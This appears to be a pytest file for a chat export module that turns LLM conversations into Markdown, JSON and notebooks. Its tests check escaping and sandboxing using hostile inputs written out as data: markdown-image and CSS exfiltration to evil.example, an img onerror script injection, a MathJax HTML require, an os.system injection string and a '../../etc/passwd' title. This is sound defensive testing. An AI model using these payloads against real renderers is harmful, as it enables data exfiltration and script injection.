from __future__ import annotations

import ast
import json

import nbformat
import pytest

from curc_llm.chats import Chat, ChatStore, ChatWriter
from curc_llm.chats.export import EXPORTS, make_file_name, render_json, render_markdown, render_notebook


def make(*texts: str, title: str = "Units", system: str = "") -> Chat:
    chat = Chat("c")
    chat.take({"chat": 2, "title": title, "created_at": 1.0})
    chat.take({"set": {"system": system or None}})
    for number, text in enumerate(texts):
        role = "assistant" if number % 2 else "user"
        parent = str(number - 1) if number else None
        chat.take(
            {"id": str(number), "parent": parent, "role": role, "content": text, "status": "done", "at": 2.0}
        )
    return chat


def list_cells(chat: Chat) -> list[dict]:
    book = nbformat.reads(render_notebook(chat), as_version=4)
    nbformat.validate(book)
    return list(book.cells)


def test_markdown_reads_as_a_conversation(store: ChatStore, writer: ChatWriter) -> None:
    writer.append_question("More?")
    writer.append_answer("No.", reasoning="Two\nlines", status="stopped", model="m*x")
    text = render_markdown(store.open(writer.chat.chat_id))
    assert text.startswith("# What is an SU?\n\n*20")
    assert "## System prompt\n\nBe brief.\n\n## You\n\nWhat is an SU?\n\n## llama\n\nA service unit." in text
    assert "## m\\*x\n\n> *Reasoning*\n>\n> Two\n> lines\n\nNo.\n\n*(stopped)*\n" in text


def test_the_names_of_what_was_attached_are_told(writer: ChatWriter) -> None:
    writer.append_question("Look", attachments=[{"name": "a*b.csv"}, {"name": 7}, "odd"])
    assert "Look\n\n*Attached: a\\*b.csv*\n" in render_markdown(writer.chat)
    writer.append_question("Look", attachments=7)
    assert render_markdown(writer.chat).endswith("Look\n")


def test_code_that_was_cut_off_is_closed() -> None:
    text = render_markdown(make("Write code", "```python\nprint(1)", "Thanks"))
    assert "```python\nprint(1)\n\n```\n\n## You" in text


def test_markdown_has_what_is_shown_alone() -> None:
    chat = make("One", "Two")
    chat.take({"id": "x", "parent": None, "role": "user", "content": "Instead", "at": 3})
    assert "One" not in render_markdown(chat).replace("Units", "")


def test_json_has_all_branches() -> None:
    chat = make("One", "Two")
    chat.take({"id": "x", "parent": None, "role": "user", "content": "Instead", "at": 3})
    value = json.loads(render_json(chat))
    assert [message["content"] for message in value["messages"]] == ["One", "Two", "Instead"]
    assert value["shown"] == ["x"]


def test_a_notebook_connects_first_and_can_go_on() -> None:
    cells = list_cells(make("What is an SU?", "A `unit`.", system="Be brief."))
    assert cells[0].cell_type == "code"
    assert "curc_llm.connect()" in cells[0].source
    assert [cell.source for cell in cells if cell.cell_type == "markdown"][-1] == "A `unit`."
    messages = ast.literal_eval(cells[-2].source.partition("=")[2].strip())
    assert messages == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What is an SU?"},
        {"role": "assistant", "content": "A `unit`."},
    ]
    assert "session.chat(messages)" in cells[-1].source


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "$$\n```\n$$\n![x][ref]\n\n[ref]: https://evil.example",
        '<img src="https://evil.example">',
        "<IMG\nsrc=x onerror=alert(1)>",
        "</p style='background:url(https://evil.example)'>",
        r"$\style{background:url(https://evil.example)}{x}$",
        r"$\require{html}$",
    ],
)
def test_what_could_fetch_something_stands_in_a_cell_that_nothing_renders(hostile: str) -> None:
    cells = list_cells(make(hostile, f"text {hostile}", system=hostile))
    assert [cell.source for cell in cells if cell.cell_type == "raw"] == [hostile, hostile, f"text {hostile}"]
    assert all(hostile not in cell.source for cell in cells if cell.cell_type == "markdown")
    assert ast.literal_eval(cells[-2].source.partition("=")[2].strip())[1]["content"] == hostile


def test_code_in_a_notebook_cannot_be_left_by_any_text() -> None:
    text = "'''\"\"\"\\'}]\nimport os; os.system('xü')\u202e\u2028#"
    source = list_cells(make(text))[-2].source
    assert source.isascii()
    assert ast.literal_eval(source.partition("=")[2].strip())[0]["content"] == text


def test_a_hostile_title_stays_a_title() -> None:
    chat = make("Hi", title="<img src=x> ![a](b) # x")
    title = list_cells(chat)[1].source
    assert title.startswith(r"# \<img src=x\> \!\[a\](b) \# x")
    assert render_markdown(chat).startswith(r"# \<img")


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("../../etc/passwd", "etc-passwd.md"),
        ("", "chat.md"),
        ("Größe: 5 %", "Größe-5.md"),
        ("a" * 200, "a" * 60 + ".md"),
    ],
)
def test_file_names_are_harmless(title: str, name: str) -> None:
    assert make_file_name(make(title=title), "markdown") == name


def test_an_empty_chat_can_be_exported() -> None:
    for _, render in EXPORTS.values():
        assert render(Chat("c"))
